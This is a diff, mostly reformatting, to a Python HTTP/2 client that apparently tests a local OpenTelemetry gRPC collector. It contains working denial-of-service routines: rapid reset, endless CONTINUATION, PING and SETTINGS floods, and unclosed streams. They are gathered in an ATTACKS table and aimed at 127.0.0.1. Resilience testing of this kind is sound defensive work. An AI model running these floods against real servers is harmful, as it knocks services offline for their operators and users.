@@ -1,4 +1,5 @@
 """A small HTTP/2 client (the h2 library) for what grpcio will not send, and attacks written as frames."""
+
 import socket
 import struct
 import time
@@ -28,9 +29,18 @@ class H2Client:
     def grpc(self, method, frame, headers=None):
         """One unary call whose message frame is given whole: response headers and trailers as one dict."""
         stream = self.conn.get_next_available_stream_id()
-        self.conn.send_headers(stream, [
-            (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", f"127.0.0.1:{self.port}"),
-            ("te", "trailers"), ("content-type", "application/grpc"), *(headers or {}).items()])
+        self.conn.send_headers(
+            stream,
+            [
+                (":method", "POST"),
+                (":scheme", "http"),
+                (":path", method),
+                (":authority", f"127.0.0.1:{self.port}"),
+                ("te", "trailers"),
+                ("content-type", "application/grpc"),
+                *(headers or {}).items(),
+            ],
+        )
         self._flush()
         got, at, ended = {}, 0, False
         while not ended:
@@ -39,7 +49,7 @@ class H2Client:
                     room = min(self.conn.local_flow_control_window(stream), self.conn.max_outbound_frame_size)
                     if room == 0:
                         break
-                    self.conn.send_data(stream, frame[at:at + room], end_stream=at + room >= len(frame))
+                    self.conn.send_data(stream, frame[at : at + room], end_stream=at + room >= len(frame))
                 except h2.exceptions.ProtocolError:
                     break
                 at += room
@@ -48,7 +58,10 @@ class H2Client:
             if not data:
                 return got
             for event in self.conn.receive_data(data):
-                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)) and event.stream_id == stream:
+                if (
+                    isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived))
+                    and event.stream_id == stream
+                ):
                     got.update(event.headers)
                 elif isinstance(event, h2.events.DataReceived):
                     self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
@@ -72,8 +85,13 @@ def literal(name, value):
     return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-REQUEST = (b"\x83\x86" + literal(b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export")
-           + literal(b":authority", b"x") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
+REQUEST = (
+    b"\x83\x86"
+    + literal(b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export")
+    + literal(b":authority", b"x")
+    + literal(b"content-type", b"application/grpc")
+    + literal(b"te", b"trailers")
+)
 
 
 def send_until_refused(port, pieces, seconds=3.0):
@@ -97,6 +115,7 @@ def rapid_reset(port):
     def pieces():
         for i in range(1, 40001, 2):
             yield frame(HEADERS, 4, i, REQUEST) + frame(RST_STREAM, 0, i, struct.pack(">I", 8))
+
     return send_until_refused(port, pieces())
 
 
@@ -105,6 +124,7 @@ def endless_continuation(port):
         yield frame(HEADERS, 0, 1, REQUEST)
         for i in range(100000):
             yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"y" * 100) * 10)
+
     return send_until_refused(port, pieces())
 
 
@@ -120,8 +140,14 @@ def open_streams(port):
     def pieces():
         for i in range(1, 20001, 2):
             yield frame(HEADERS, 4, i, REQUEST)
+
     return send_until_refused(port, pieces())
 
 
-ATTACKS = {"rapid reset": rapid_reset, "endless CONTINUATION": endless_continuation, "PING flood": ping_flood,
-           "SETTINGS flood": settings_flood, "streams never ended": open_streams}
+ATTACKS = {
+    "rapid reset": rapid_reset,
+    "endless CONTINUATION": endless_continuation,
+    "PING flood": ping_flood,
+    "SETTINGS flood": settings_flood,
+    "streams never ended": open_streams,
+}
